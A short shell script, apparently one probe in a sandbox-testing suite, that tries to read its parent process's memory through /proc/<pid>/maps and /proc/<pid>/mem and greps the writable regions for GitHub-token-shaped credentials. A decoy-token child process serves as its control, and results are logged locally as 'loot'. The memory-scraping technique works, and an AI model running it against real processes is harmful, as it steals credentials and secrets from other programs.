#!/bin/sh
# Attack: credentials from the memory of its parent (ward): every writable
# region listed in /proc/<pid>/maps, read through /proc/<pid>/mem, searched
# for anything shaped like a GitHub credential. Its control is a child of
# its own holding the decoy credential given as first argument in its
# environment (a child, because where Yama's ptrace_scope is 1, as on
# Ubuntu, only descendants' memory is readable). Loot: what it could open,
# and what it found.
. "$(dirname "$0")/common.sh"
loot "agent $$, parent $PARENT"
DECOY_TOKEN=$1 sh -c 'while :; do sleep 1; done' &
control=$!
sleep 0.2
for pid in "$PARENT" "$control"; do
  if (: < "/proc/$pid/mem") 2>/dev/null; then loot "opened /proc/$pid/mem"; else loot "denied /proc/$pid/mem"; fi
  if ! maps=$(cat 2>/dev/null < "/proc/$pid/maps") || [ -z "$maps" ]; then
    loot "denied /proc/$pid/maps"
    continue
  fi
  loot "read /proc/$pid/maps"
  printf '%s\n' "$maps" | while read -r range perms rest; do
    case $perms in rw*) ;; *) continue ;; esac
    start=$((0x${range%-*}))
    end=$((0x${range#*-}))
    dd if="/proc/$pid/mem" bs=4096 skip=$((start / 4096)) count=$(((end - start) / 4096)) 2>/dev/null
  done | grep -a -o -E "$TOKEN_SHAPES" | sort -u | sed "s|^|found in /proc/$pid/mem: |" >> "$LOOT"
done
kill "$control"
finish
